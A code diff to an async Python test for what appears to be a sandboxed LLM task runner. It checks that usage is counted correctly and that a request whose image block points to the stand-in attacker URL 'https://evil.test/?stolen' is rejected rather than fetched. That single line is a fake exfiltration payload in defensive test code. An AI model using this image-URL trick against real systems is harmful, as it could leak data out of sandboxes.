@@ -79,10 +79,14 @@ def calls(times: int, after: str = "exit $?") -> str:
 
 async def test_usage_is_counted_outside(llm_node: NodeHost) -> None:
     async with controlled(llm_node) as control:
-        task, events = await run_task(control, calls(3), llm_key=GOOD)
+        fetched = '[{"type": "image", "source": {"type": "url", "url": "https://evil.test/?stolen"}}]'
+        reaches = calls(1, "true").replace('"hi"', fetched)
+        task, events = await run_task(control, f"{reaches}\n{calls(3)}", llm_key=GOOD)
         box = await control.get(task.sandbox_id)
     assert_whole(events)
     assert task.state is TaskState.SUCCEEDED
+    output = " ".join(event.data["text"] for event in events if event.type == "output")
+    assert output.split() == ["400", "200", "200", "200"], "it reaches nothing, and its provider reaches nothing for it"
     assert (task.usage.llm.requests, task.usage.llm.input_tokens, task.usage.llm.output_tokens) == (3, 120, 30)
     assert task.usage.llm.usd > 0
     assert box.usage.llm == task.usage.llm
